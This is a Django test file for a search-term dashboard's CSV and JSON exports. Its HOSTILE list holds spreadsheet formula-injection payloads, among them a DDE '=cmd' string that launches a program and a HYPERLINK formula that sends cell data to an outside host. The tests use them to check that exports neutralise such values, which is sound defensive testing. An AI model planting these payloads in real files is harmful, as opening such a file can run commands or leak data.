import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from dashboard.files import export_terms
from dashboard.models import Board, TermDay
from dashboard.periods import view_of
from dashboard.ranks import refreshing
from dashboard.rollup import folding
from dashboard.tests.rows import search
from dashboard.tests.term_days import first_searched, only_totals_before
from movies.models import Outcome, SearchTerm

pytestmark = pytest.mark.django_db
# A Sunday, 10:35 in Berlin.
NOW = datetime(2026, 11, 22, 9, 35, tzinfo=UTC)
TODAY = date(2026, 11, 22)
YESTERDAY = NOW - timedelta(days=1)
LAST_WEEK = NOW - timedelta(days=8)
HOSTILE = (
    "=1+1",
    "+1",
    "-1",
    "@sum(a1)",
    "=cmd|' /c calc'!a0",
    '=hyperlink("http://example.org?x="&a1,"dune")',
    "＝1+1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
)


@pytest.fixture
def viewer(member, monkeypatch) -> Client:
    monkeypatch.setattr(timezone, "now", lambda: NOW)
    client = Client()
    client.force_login(member("Viewers"))
    return client


def rank(**address: str) -> None:
    """Bring everything up to date, as the roll-up does."""
    folding.fold()
    row, _ = refreshing.row_of(view_of(address, TODAY), NOW)
    refreshing.refresh(row.pk, NOW)


def lines(viewer: Client, table: str, **address: str) -> list[dict[str, str]]:
    response = viewer.get(reverse("dashboard:terms_csv"), {"table": table} | address)
    content = response.getvalue().decode("utf-8-sig")
    found = list(csv.DictReader(io.StringIO(content, newline="")))
    # A file that ends with neither was cut short.
    note = found[-1]["Note"]
    assert note.startswith(("End: ", "Other: ", "Being worked out"))
    # Nothing takes it for a term.
    assert found[-1]["Term"] == ""
    return found if note.startswith("Other: ") else found[:-1]


def page(viewer: Client, table: str, **address: str) -> dict:
    return viewer.get(reverse("dashboard:terms_json"), {"table": table} | address).json()


def many_terms(count: int) -> None:
    """Write terms of which each was searched once, yesterday."""
    made = [SearchTerm(term=f"term {number:05}", created_at=YESTERDAY) for number in range(count)]
    terms = SearchTerm.objects.bulk_create(made)
    day = TODAY - timedelta(days=1)
    TermDay.objects.bulk_create(TermDay(day=day, term=term, searches=1) for term in terms)


def test_a_line_says_all_that_is_known_of_a_term(viewer):
    search("old", at=NOW - timedelta(days=60))
    term = search("amélie", at=LAST_WEEK).term
    SearchTerm.objects.filter(pk=term.pk).update(total_results=7)
    search("amélie", at=YESTERDAY, outcome=Outcome.NOT_FOUND)
    search("dune", at=YESTERDAY, films_found=3)
    rank(period="7")

    amelie, dune = lines(viewer, "top", period="7")

    assert amelie == {
        "Term": "amélie",
        "Searches": "1",
        "Searches before": "1",
        "Nothing found": "1",
        "First-time": "0",
        "Share": "0.500000000",
        "Change of share": "",
        "Change of share at least": "",
        "Change of share at most": "",
        "State": "Too few to tell",
        "Results": "7",
        "First searched": "2026-11-14T10:35:00+01:00",
        "Note": "",
    }
    assert (dune["Term"], dune["State"], dune["First-time"]) == ("dune", "New", "1")


def test_changes_are_parts_of_one(viewer):
    search("old", at=NOW - timedelta(days=60))
    for at, dune, alien in ((LAST_WEEK, 10, 30), (YESTERDAY, 30, 10)):
        for _ in range(dune):
            search("dune", at=at)
        for _ in range(alien):
            search("alien", at=at)
    rank(period="7")

    [rising], [falling] = lines(viewer, "rising", period="7"), lines(viewer, "falling", period="7")

    assert (rising["Term"], rising["State"], rising["Change of share"]) == (
        "dune",
        "Rising",
        "2.000000000",
    )
    assert (
        0 < float(rising["Change of share at least"]) < 2 < float(rising["Change of share at most"])
    )
    assert (falling["Term"], falling["Change of share"]) == ("alien", "-0.666667000")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_term_is_text(hostile, viewer):
    search(hostile, at=YESTERDAY)
    folding.fold()

    content = viewer.get(reverse("dashboard:terms_csv"), {"table": "top"}).getvalue().decode()

    assert content.splitlines(keepends=True)[1].startswith("\"'")
    assert [line["Term"] for line in lines(viewer, "top")] == [f"'{hostile}"]
    assert [row["term"] for row in page(viewer, "top")["rows"]] == [hostile]


@pytest.mark.parametrize(
    ("table", "column"),
    [("top", "Searches"), ("new", "Searches"), ("empty", "Nothing found")],
)
def test_a_table_that_is_narrowed_down_says_what_the_others_count(table, column, viewer):
    for term in ("dune", "dune", "dune ii", "alien"):
        search(term, at=YESTERDAY, outcome=Outcome.NOT_FOUND)
    folding.fold()

    found = lines(viewer, table, find=" Dune ", minimum="2")

    assert [(line["Term"], line[column], line["Note"]) for line in found] == [
        ("dune", "2", ""),
        ("", "2", "Other: 2 terms"),
    ]


def test_the_others_of_gone_are_of_the_compared_period(viewer):
    search("old", at=NOW - timedelta(days=60))
    for term in ("dune", "alien", "alien"):
        search(term, at=LAST_WEEK)
    folding.fold()

    _, other = lines(viewer, "gone", period="7", find="dune")

    assert (other["Searches"], other["Searches before"]) == ("", "2")


def test_those_that_rise_beyond_the_rows_kept_are_the_last_line(viewer):
    pk = search("dune", at=YESTERDAY).term_id
    rank(period="7")
    rows = [[pk, 1, 0, 0, 1, "rising", 2.0, 1.5, None]]
    Board.objects.filter(table="rising").update(rows=rows, terms=3, whole=11)

    dune, other = lines(viewer, "rising", period="7")

    assert (dune["Change of share"], dune["Change of share at most"]) == ("1.000000000", "")
    assert (other["Note"], other["Searches"]) == ("Other: 2 terms", "10")


def test_the_last_line_says_how_many_terms_there_are(viewer):
    search("dune", at=YESTERDAY)
    folding.fold()

    content = viewer.get(reverse("dashboard:terms_csv"), {"table": "top"}).getvalue().decode()

    assert content.splitlines()[-1] == f'{12 * ","}"End: 1 term"'


def test_terms_that_are_kept_no_more_are_no_zeros(viewer):
    first_searched()
    only_totals_before(date(2024, 9, 13))
    address = {"table": "top", "from": "2024-01-01", "to": "2024-03-01"}

    content = viewer.get(reverse("dashboard:terms_csv"), address).getvalue().decode()

    assert "Terms are kept 800 days." in content


def test_before_they_are_worked_out_there_is_no_line_of_those_that_rise(viewer):
    assert lines(viewer, "rising") == []
    assert not page(viewer, "rising")["is_ready"]


def test_the_page_of_a_table_is_the_one_that_is_shown(viewer):
    for number in range(30):
        search(f"dune {number}", at=YESTERDAY)
    search("alien", at=YESTERDAY)
    rank()

    found = page(viewer, "top", tab="new", find="dune", sort="term", page="2")

    assert (found["table"], found["page"], found["pages"], found["found"]) == ("new", 2, 2, 30)
    assert [row["term"] for row in found["rows"]] == [f"dune {number}" for number in range(5, 10)]
    assert (found["terms"], found["whole"], found["is_ready"]) == (31, 31, True)
    assert found["table_figures_to"] == found["figures_to"] == "2026-11-22T10:35:00+01:00"


@pytest.mark.parametrize("name", ["terms_csv", "terms_json"])
@pytest.mark.parametrize("address", [{"table": "best"}, {"minimum": "many"}])
def test_a_table_that_is_not_understood_is_refused_in_a_sentence(name, address, viewer):
    response = viewer.get(reverse(f"dashboard:{name}"), address)

    assert response.status_code == 400
    assert b"best" in response.content or b"many" in response.content


def test_a_long_file_costs_a_few_queries_a_thousand_terms(viewer, django_assert_max_num_queries):
    many_terms(2500)

    # Who asks, what can be compared, the board, the sums, and for each thousand the texts and the
    # first searches.
    with django_assert_max_num_queries(17):
        assert len(lines(viewer, "top")) == 2500


def test_a_reader_who_hangs_up_leaves_no_cursor_behind():
    many_terms(1500)
    rows = export_terms.term_rows(view_of({}, TODAY), "top")
    next(rows)
    next(rows)
    was_open = open_cursors()

    rows.close()

    assert was_open == (connection.vendor == "postgresql")
    assert not open_cursors()


def open_cursors() -> int:
    if connection.vendor == "sqlite":
        return 0
    with connection.cursor() as cursor:
        cursor.execute("SELECT COUNT(*) FROM pg_cursors WHERE name <> ''")
        return cursor.fetchone()[0]


def test_a_long_download_keeps_nobody_from_writing(transactional_db, admin_client):
    many_terms(1500)
    response = admin_client.get(reverse("dashboard:terms_csv"), {"table": "top"})
    content = iter(response)
    next(content)
    next(content)
    other = connection.copy()

    with other.cursor() as cursor:
        cursor.execute("UPDATE movies_searchterm SET hidden = NOT hidden")
        written = cursor.rowcount
    other.close()
    rest = b"".join(content)

    assert written == 1500
    assert b"term 01499" in rest
